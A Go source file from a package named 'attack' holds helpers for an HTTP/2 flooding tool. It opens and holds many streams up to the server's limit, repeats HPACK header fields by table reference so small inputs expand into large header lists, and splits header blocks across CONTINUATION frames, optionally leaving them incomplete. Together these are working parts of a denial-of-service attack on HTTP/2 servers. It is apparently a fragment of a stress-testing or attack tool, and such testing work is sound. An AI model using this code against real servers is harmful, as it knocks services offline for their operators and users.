package attack

import (
	"bufio"
	"bytes"
	"slices"

	h2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// counted counts what a Framer writes, which writes each frame at once.
type counted struct {
	*bufio.Writer
	frames int
	bytes  int64
}

func (c *counted) Write(p []byte) (int, error) {
	c.frames++
	c.bytes += int64(len(p))
	return c.Writer.Write(p)
}

// drop removes a stream; c.mu is held.
func (c *flooding) drop(id uint32) {
	if i, found := slices.BinarySearch(c.kept, id); found {
		c.kept = slices.Delete(c.kept, i, i+1)
	}
}

// keep marks the next stream to stay open.
func (c *flooding) keep() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.kept = append(c.kept, c.nextStream())
}

// keeps returns the streams to keep open.
func (c *flooding) keeps() []uint32 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.kept)
}

// full reports whether no more streams can be opened.
func (c *flooding) full() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.kept) >= c.maxStreams
}

// request opens a stream. Without end the request has a body.
func (c *flooding) request(method string, end bool) error {
	return c.writeHead(c.encode(method), !end, true)
}

// encode returns the fields of every request. They do not change the table of the connection.
func (c *flooding) encode(method string) []byte {
	c.head.Reset()
	for _, field := range [][2]string{{":method", method}, {":scheme", c.scheme}, {":authority", c.flood.Host}, {":path", c.flood.Path}} {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // to memory
	}
	return slices.Clone(c.head.Bytes())
}

// fields returns a field n times. Unless it is sensitive, it is sent at most once, and referred to.
func (c *flooding) fields(field hpack.HeaderField, n int) []byte {
	if n <= 0 {
		return nil
	}
	c.head.Reset()
	_ = c.encoder.WriteField(field)
	first := slices.Clone(c.head.Bytes())
	if n == 1 {
		return first
	}
	c.head.Reset()
	_ = c.encoder.WriteField(field)
	return append(first, bytes.Repeat(c.head.Bytes(), n-1)...)
}

// writeHead opens a stream with a head, in as many frames as needed.
func (c *flooding) writeHead(block []byte, body, complete bool) error {
	c.stream = c.nextStream()
	c.streams++
	first, rest := cut(block)
	err := c.framer.WriteHeaders(h2.HeadersFrameParam{
		StreamID: c.stream, BlockFragment: first, EndStream: !body, EndHeaders: complete && len(rest) == 0,
	})
	for len(rest) > 0 && err == nil {
		first, rest = cut(rest)
		err = c.framer.WriteContinuation(c.stream, complete && len(rest) == 0, first)
	}
	return err
}

func (c *flooding) nextStream() uint32 { return uint32(2*c.streams + 1) }

func cut(block []byte) (frame, rest []byte) {
	n := min(len(block), maxFloodFrame)
	return block[:n], block[n:]
}
